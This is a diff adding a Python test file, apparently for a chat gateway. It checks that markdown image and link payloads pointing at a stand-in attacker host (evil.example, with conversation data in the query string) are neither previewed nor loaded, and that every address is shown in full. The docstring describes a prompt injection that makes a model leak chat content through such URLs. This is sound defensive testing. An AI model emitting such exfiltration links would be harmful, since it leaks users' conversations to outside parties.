@@ -1,0 +1,44 @@
+"""A59: an injected instruction makes the model write what was said into an address that somebody may fetch."""
+
+import pytest
+
+from channels.console.render import ConsoleRenderer
+from channels.markdown_parse import parse
+from channels.messages import OutboundPart
+from channels.web.files import POLICY
+from channels.web.html import to_html
+from channels.web.render import WebRenderer
+from gateway.delivery.splitting import split
+from tests.fakes.takers import TAKERS, Taker
+from tests.fakes.wires import WIRES, is_loud
+
+HIDDEN = "https://evil.example/?q=you+practised+45+min"
+ATTACK = f"Your week:\n\n![]({HIDDEN})\n\n![chart]({HIDDEN})\n\nSee [the chart]({HIDDEN}) or [example.org](https://evil.example/)."
+PLATFORMS = pytest.mark.parametrize("taker", TAKERS, ids=lambda taker: taker.name)
+
+
+@PLATFORMS
+async def test_no_platform_fetches_it(taker: Taker):
+    """Sent and then edited by the platform's own library: no preview, no image, and each address is seen in full."""
+    async with WIRES[taker.name]() as wire:
+        (first,) = split("…", taker.renderer, taker.limits)
+        (whole,) = split(ATTACK, taker.renderer, taker.limits)
+        sent = OutboundPart(address=wire.address, rendered=whole.rendered, idem_key="key-1")
+        waiting = OutboundPart(address=wire.address, rendered=first.rendered, idem_key="key-2")
+        await wire.channel.send(sent)
+        receipt = await wire.channel.send(waiting)
+        await wire.channel.edit(sent, receipt.platform_id)
+        assert [False, False] == [is_loud(one) for one in wire.seen()]
+    read = taker.take(whole.rendered).text
+    assert 3 == read.count(HIDDEN)
+    assert "example.org (https://evil.example/)" in read
+
+
+def test_our_own_views_fetch_nothing():
+    """The page has no tag that loads, and a policy by which nothing could; the terminal shows letters."""
+    html = to_html(WebRenderer().render(parse(ATTACK)))
+    assert "<img" not in html
+    assert 3 == html.count(f">{HIDDEN.replace('&', '&amp;')}</a>")
+    assert 'href="https://evil.example/"' in html.split("example.org (")[1]
+    assert {"default-src 'none'", "img-src 'self'", "connect-src 'self'"} <= set(POLICY.split("; "))
+    assert 3 == ConsoleRenderer().render(parse(ATTACK)).text.count(HIDDEN)
